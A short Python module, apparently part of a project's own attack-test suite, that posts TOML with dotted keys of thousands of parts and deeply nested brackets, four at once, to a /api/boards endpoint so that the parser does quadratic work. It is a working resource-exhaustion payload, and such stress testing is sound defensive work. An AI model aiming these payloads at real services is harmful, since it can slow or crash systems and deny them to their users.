"""Boards whose TOML has keys of very many parts, which cost a parser the square of their number."""

import asyncio

from tools.attacks.target import Target

AT_ONCE = 4


async def attack(target: Target, size: int) -> None:
    deep = ".".join("a" * min(28_000, 7_000 * size))
    texts = [
        f"{deep} = 1",
        f"[{deep}]",
        "\n".join(f"{'.'.join('b' * 80)}.c{n} = 1" for n in range(60 * size)),
        f"x = {'[' * (500 * size)}",
    ]
    asked = [{"game": "dice", "text": text[:60_000]} for text in texts]
    for body in asked:
        await asyncio.gather(*(target.post("/api/boards", body) for _ in range(AT_ONCE)))
